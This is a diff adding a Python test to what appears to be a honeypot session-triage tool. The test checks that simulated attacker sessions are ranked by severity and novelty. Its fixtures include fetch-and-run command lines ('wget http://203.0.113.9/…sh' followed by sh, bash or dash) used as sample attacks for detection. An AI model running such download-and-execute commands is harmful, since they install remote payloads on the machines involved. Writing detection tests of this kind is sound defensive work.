@@ -203,6 +203,41 @@ async def test_a_credential_is_new_until_somebody_tried_it_earlier(repo: BaseRep
     assert await repo.first_times("s2") == {}
 
 
+async def test_the_worst_sessions_are_read_first_then_what_is_new_and_scripts_once(
+    repo: BaseRepository, tmp_path: Path
+) -> None:
+    def fetched(name: str, at: float, host: str, how: str = "sh") -> Event:
+        return ended(
+            name,
+            [f"wget http://{host}/{name}.sh", f"{how} {name}.sh", "w", "id"][: 4 if how == "sh" else 3],
+            at,
+        )
+
+    events = [
+        ended("looked", ["uname -a", "w", "id", "exit"], 500.0),
+        fetched("old", 1000.0, "203.0.113.9"), fetched("old-too", 1500.0, "203.0.113.9"),
+        fetched("again", 2000.0, "203.0.113.9", "bash"), fetched("first", 3000.0, "203.0.113.7", "dash"),
+        ended("fetched", ["wget http://203.0.113.9/a.sh"], 4000.0),
+    ]  # fmt: skip
+    await store(repo, *events, ended("again-before", [], 10.0))
+    worker = await worker_of(repo, settings_of(tmp_path))
+    await judge(worker, repo, *events)
+    rows = await repo.sessions_worth_reading(400.0)
+    assert [(row["session_id"], row["severity"], row["alike"]) for row in rows] == [
+        ("again", "high", 1), ("first", "high", 1), ("old", "high", 2), ("fetched", "medium", 1), ("looked", "low", 1),
+    ]  # fmt: skip
+    assert [row["session_id"] for row in rows if row["new"]] == ["again", "first", "old", "fetched", "looked"]
+    assert (await repo.sessions_worth_reading(400.0, limit=1))[0]["session_id"] == "again"
+    later = ended("before", ["wget http://203.0.113.9/z.sh", "bash z.sh", "w"], 5.0)
+    await store(repo, later)
+    await judge(worker, repo, later)
+    assert [row["session_id"] for row in await repo.sessions_worth_reading(400.0)][:3] == [
+        "first",
+        "old",
+        "again",
+    ]
+
+
 async def test_a_session_that_is_purged_takes_its_story_along(repo: BaseRepository, tmp_path: Path) -> None:
     worker = await worker_of(repo, settings_of(tmp_path))
     await store(repo, RAN)
